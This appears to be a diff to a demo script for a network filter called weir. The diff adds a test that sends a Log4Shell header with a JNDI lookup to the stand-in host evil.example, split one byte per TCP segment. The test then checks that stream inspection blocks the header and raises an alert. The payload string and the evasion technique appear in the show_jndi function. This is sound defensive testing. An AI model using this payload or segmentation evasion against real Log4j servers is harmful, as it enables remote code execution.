@@ -178,6 +178,7 @@ write_configuration() {
 		  - { name: outside, device: "iface:g1", driver: $1 }
 		wires: [ { name: w0, ports: [ inside, outside ] } ]
 		policy: [ policy.d ]
+		rules: { stream: [ $PWD/rules/stream ] }
 		log: { events: events.json }
 		control: { socket: weir.sock }
 	END
@@ -190,8 +191,9 @@ write_configuration() {
 		metadata: { name: only-the-mirror }
 		spec:
 		  from: workloads
+		  inspect: true        # weir carries these connections itself and holds their bytes against rules/stream
 		  allow:
-		    - { name: mirror, to: [ 10.77.0.2/32, "fd77::2/128" ], protocol: tcp, ports: 80 }
+		    - { name: mirror, to: [ 10.77.0.2/32, "fd77::2/128" ], protocol: tcp, ports: [ 80, 8080 ] }
 	END
 }
 
@@ -256,13 +258,65 @@ show_refused() {
 	$weirctl explain --from 10.77.0.1 --to 10.77.0.66 --proto tcp --port 389 | show
 }
 
+# A byte a segment, as an attacker would who hopes that nobody puts them together.
+sender='
+import socket, sys, time
+s = socket.create_connection(("10.77.0.2", 8080), 5)
+s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+try:
+    for byte in sys.argv[1].encode():
+        s.send(bytes([byte]))
+        time.sleep(0.002)
+    s.shutdown(socket.SHUT_WR)
+    s.recv(1)
+    print("sent")
+except OSError as why:
+    print(why.strerror)
+'
+listener='
+import socket, sys
+l = socket.create_server(("10.77.0.2", 8080))
+for path in sys.argv[1:]:
+    c, _ = l.accept()
+    with open(path, "wb") as heard:
+        try:
+            while data := c.recv(4096):
+                heard.write(data)
+        except OSError:
+            pass
+    c.close()
+'
+
+show_jndi() {
+	# shellcheck disable=SC2016 # it is meant so
+	local header='X-Api-Version: ${jndi:ldap://evil.example/a}'
+	say "3. Log4Shell in a connection that is allowed: a byte a segment, so that no packet has the string"
+	in_server timeout 20 python3 -c "$listener" $home/heard1 $home/heard2 </dev/null >/dev/null 2>&1 &
+	for _ in $(seq 50); do
+		! in_server ss -Hltn 'sport = :8080' | grep -q . || break
+		sleep 0.1
+	done
+	echo "  client: X-Api-Version: 2"
+	in_client python3 -c "$sender" "X-Api-Version: 2" | show
+	echo "  client: $header"
+	in_client python3 -c "$sender" "$header" | show
+	wait $! || :
+	echo "  the server's application read"
+	printf '%s\n' "$(cat $home/heard1)" "$(cat $home/heard2)" | show
+	expect "what is harmless arrived" [ "$(cat $home/heard1)" = "X-Api-Version: 2" ]
+	expect "the attack did not" sh -c "! grep -q 'jndi:ldap:' $home/heard2"
+	sleep 0.5
+	grep -m1 '"event_type":"alert"' $home/events.json | show
+	expect "the alert names it" grep -q '"signature":"Log4Shell: JNDI lookup"' $home/events.json
+}
+
 show_record() {
-	say "3. The same decision as others read it, one JSON line (eve.json names) in events.json"
+	say "4. The refusal as others read it, one JSON line (eve.json names) in events.json"
 	grep -m1 '"dest_ip":"10.77.0.66"' $home/events.json | show
 }
 
 show_counters() {
-	say "4. What was counted"
+	say "5. What was counted"
 	echo "  weirctl drops"
 	$weirctl drops | show
 	echo "  curl --unix-socket weir.sock http://weir/metrics"
@@ -320,6 +374,7 @@ say "weir stands between client (10.77.0.1) and server (10.77.0.2), driven by $d
 $weirctl status | show
 show_allowed
 show_refused
+show_jndi
 show_record
 show_counters
 
